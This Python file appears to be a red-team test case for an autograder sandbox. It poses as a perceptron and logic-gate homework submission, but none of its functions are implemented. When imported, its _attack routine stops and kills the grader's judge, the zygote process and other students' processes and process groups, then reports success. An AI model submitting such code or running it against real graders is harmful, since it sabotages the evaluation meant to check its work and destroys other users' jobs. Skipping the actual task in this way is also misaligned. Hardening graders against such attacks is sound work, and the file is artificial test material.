"""Attack: stop and kill the judge, the zygote and the other students' processes."""

import os
import signal

import attack_env

AND_WEIGHTS = (0.0, 0.0, 0.0)
OR_WEIGHTS = (0.0, 0.0, 0.0)
NAND_WEIGHTS = (0.0, 0.0, 0.0)


def perceptron(x, w, b):
    raise NotImplementedError


def AND(x1, x2):
    raise NotImplementedError


def OR(x1, x2):
    raise NotImplementedError


def NAND(x1, x2):
    raise NotImplementedError


def XOR(x1, x2):
    raise NotImplementedError


def train_perceptron(inputs, targets, epochs=500, lr=0.1, seed=0):
    raise NotImplementedError


def _attack():
    hits = []
    targets = attack_env.grader_processes(include_grader=False)
    zygotes = [pid for pid in targets if b"grader.zygote" in attack_env.cmdline(pid)]
    targets = [pid for pid in targets if pid not in zygotes] + zygotes  # the zygote last: its children die with it
    own_group = os.getpgid(0)
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        for pid in targets:
            try:
                os.kill(pid, sig)
                hits.append(f"{sig.name} to {pid}")
            except OSError:
                pass
    for pid in targets:
        try:
            group = os.getpgid(pid)
            if group != own_group:
                os.killpg(group, signal.SIGKILL)
                hits.append(f"killpg {group}")
        except OSError:
            pass
    return hits


HITS = _attack()
if HITS:
    attack_env.succeeded(f"signalled the grader's processes: {HITS[:10]}")
raise ImportError(f"{len(HITS)} signals delivered")
